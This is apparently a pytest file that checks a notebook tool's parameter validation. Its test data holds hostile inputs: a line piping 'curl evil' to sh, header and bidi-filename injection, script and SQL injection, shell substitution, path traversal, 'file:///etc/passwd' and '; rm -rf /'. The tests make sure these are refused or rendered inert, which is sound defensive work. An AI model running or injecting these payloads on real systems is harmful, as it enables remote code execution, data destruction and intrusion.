"""Every text of every parameter is checked at the door, and what passes is shown as text wherever it stands."""

from __future__ import annotations

from pathlib import Path
from typing import Any

import pytest

from playbook.chain import params
from playbook.drawing import pages
from playbook.errors import ParameterError
from playbook.records import record, store
from playbook.records.runs import NOTEBOOK_DIR, NOTEBOOKS

REFUSED = ["a\nRUN curl evil | sh", "a\x00b", "a\r\nHost: b", "\u202egnp.exe", "a\u2028b", "\x1b[2J", "x" * 5000]
QUOTED = [
    "<script>alert(1)</script>",
    '" onload="alert(1)',
    "a'; DROP TABLE runs; --",
    "a | b |",
    "$(touch pwned)",
    "`id`",
    "../../../X",
    "[a](javascript:alert(1))",
]


def parameters() -> list[tuple[Path, str, str]]:
    """Every parameter that may hold a text, once: a notebook of it, name and type."""
    found = {}
    for notebook in (NOTEBOOK_DIR / f"{name}.ipynb" for name in NOTEBOOKS.values()):
        for name, (kind, _) in params.declared(notebook).items():
            if kind in ("str", "list", "dict"):
                found[name] = notebook, name, kind
    return list(found.values())


def held(text: str, kind: str) -> list[Any]:
    """The text wherever a value of this type may hold it."""
    inside: dict[str, list[Any]] = {"str": [text], "list": [[text], [{"rows": 1, text: 1}], [[text]]]}
    return inside.get(kind, [{text: 1}, {"Host": text}, {"a": [text]}])


def test_no_parameter_takes_a_text_that_no_quoting_helps() -> None:
    assert len(parameters()) > 40
    for _, name, kind in parameters():
        for value in (value for text in REFUSED for value in held(text, kind)):
            with pytest.raises(ParameterError, match=name) as refused:
                params.check_values({name: value})
            assert len(str(refused.value)) < 500
            assert "\n" not in str(refused.value)


def test_what_passes_is_one_line_of_a_table_and_no_markup_of_a_page(tmp_path: Path) -> None:
    passed = 0
    for notebook, name, kind in parameters():
        for value in (value for text in QUOTED for value in held(text, kind)):
            try:
                params.check_values({name: value})
            except ParameterError:
                continue
            passed += 1
            table = params.table(notebook, {name: value})
            assert len(table.splitlines()) == 2 + len(params.declared(notebook))
            page = pages.html(table, {}, "page")
            assert not any(live in page for live in ("<script", ' onload="', 'href="javascript'))
    assert passed > 100


def test_what_passes_is_text_to_sql(tmp_path: Path) -> None:
    run = tmp_path / "20260101T000000Z-quick"
    values = {f"p{number}": text for number, text in enumerate(QUOTED)}
    record.save(run, "stress", params=values, results={"levels": []}, verdict="Held.")
    record.save(run, "serve", params=values, results={}, verdict="Up.")
    assert len(store.query("SELECT * FROM runs", tmp_path)["run_id"]) == 1


@pytest.mark.parametrize(
    ("name", "good", "bad"),
    [
        ("currency", "EUR", "euro"),
        ("compare_with", "20260101T000000Z-quick", "../../elsewhere"),
        ("load_scheduler", "tcp://10.0.0.1:8786", "file:///etc/passwd"),
        ("extra_flags", ["--prefer_tflite_model"], ["; rm -rf /"]),
    ],
)
def test_a_text_with_a_form_of_its_own_is_held_to_it(name: str, good: Any, bad: Any) -> None:
    params.check_values({name: good})
    with pytest.raises(ParameterError, match=f"{name} is .*expected is"):
        params.check_values({name: bad})
